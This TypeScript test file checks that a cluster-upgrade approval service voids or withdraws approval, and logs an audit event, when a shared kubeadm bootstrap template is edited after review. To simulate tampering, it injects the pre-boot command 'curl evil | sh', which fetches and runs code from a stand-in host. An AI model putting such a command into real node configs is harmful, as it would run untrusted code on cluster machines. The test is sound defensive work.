import { expect, test, vi } from 'vitest'
import { db } from '@/lib/db/client'
import { useTestDatabase } from '@/lib/db/testing'
import { isObject, valueAt } from '@/lib/domain/changes'
import { HELD } from '@/lib/domain/latch/names'
import type { JsonObject } from '@/lib/domain/json'
import { approveChange } from '@/lib/services/changes/approve-change'
import { changeSetOf } from '@/lib/services/changes/change-row'
import { savePolicy } from '@/lib/services/policies/save-policy'
import { mergePatch } from '@/lib/services/updaters/testing'
import { gatedSandbox } from './gated-sandbox'
import { until } from './process'
import { ctx } from './suites/governing'
import { MD } from './suites/watching'
import { FROZEN } from './timed'

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 })
useTestDatabase()

const configs: string[] = []

const at = gatedSandbox(({ says }) => {
  says.CanUpdateMachineSet = (request) => {
    const version = valueAt(request, 'desired', 'machineSet', 'spec', 'template', 'spec', 'version') ?? null
    return { machineSetPatch: mergePatch({ spec: { template: { spec: { version } } } }) }
  }
  says.UpdateMachine = (request): JsonObject => {
    configs.push(JSON.stringify(valueAt(request, 'desired', 'bootstrapConfig', 'spec', 'preKubeadmCommands') ?? null))
    return { retryAfterSeconds: 1, message: 'at work' }
  }
})

test.each([['at once'], ['for later']])(
  'approved in place %s: a config that was edited beside what differs is passed on to nobody',
  async (when) => {
    configs.length = 0
    const later = when === 'for later'
    const w = await at.g.workload(later ? 'later' : 'now', {
      workers: { replicas: 2, maxSurge: 0, maxUnavailable: 1 },
    })
    await at.g.known(w)
    const md = w.machineDeployment
    if (later) await savePolicy(ctx, { name: 'frozen', spec: { select: { names: [md] }, ...FROZEN } })
    const ref = valueAt((await at.g.deployment(w)) as never, 'spec', 'template', 'spec', 'bootstrap', 'configRef')
    if (!isObject(ref)) throw new Error('no bootstrap config')
    const templates = { group: String(ref.apiGroup), version: 'v1beta2', plural: 'kubeadmconfigtemplates' }
    const edit = () =>
      at.cluster.admin.patch(templates, String(ref.name), w.namespace, 'merge', {
        spec: { template: { spec: { preKubeadmCommands: ['curl evil | sh'] } } },
      } as never)
    await at.g.changeWorkers(w, 'v1.34.1')
    const waiting = await at.g.approvable(w, md, 'in-place')
    const digest = async () => changeSetOf((await at.g.changes(w, md))[0]!).pairs[0]!.config!.digest
    const shown = await digest()
    // The template that old and new machines share: no field of the change is another one by it.
    if (!later) await edit()
    const decided = await approveChange(ctx, {
      ...{
        changeId: waiting.id,
        fingerprint: waiting.fingerprint,
        mode: 'in-place' as const,
        deletions: 0,
        replicas: 2,
      },
    })
    expect(decided.state).toBe(later ? 'gathering' : 'voided')
    if (later) {
      await edit()
      // Looked at again, as it is within a minute, and at once where anybody writes to the group.
      const touch = { spec: { template: { spec: { minReadySeconds: 1 } } } }
      await at.cluster.admin.patch(MD, md, w.namespace, 'merge', touch as never)
      await until('the planner to have seen it', async () => (await digest()) !== shown, { ms: 40_000, every: 100 })
      expect((await at.g.changes(w, md))[0]!).toMatchObject({ id: waiting.id, fingerprint: waiting.fingerprint })
    }
    if (later) {
      const approvals = await db().approval.findMany({ where: { changeId: waiting.id } })
      expect(approvals.map(({ endedWhy }) => endedWhy)).toEqual(['config'])
      expect((await at.g.changes(w, md))[0]!).toMatchObject({ state: 'waiting', dueMode: null })
      const event = { action: 'approval.config-edited', targetId: waiting.id }
      expect(await db().auditEvent.count({ where: event })).toBe(1)
    } else {
      expect(decided.error).toContain('was edited since it was last looked at here')
      expect((await at.g.deployment(w)).metadata.annotations).toHaveProperty([HELD])
    }
    expect(configs).toEqual([])
  },
)
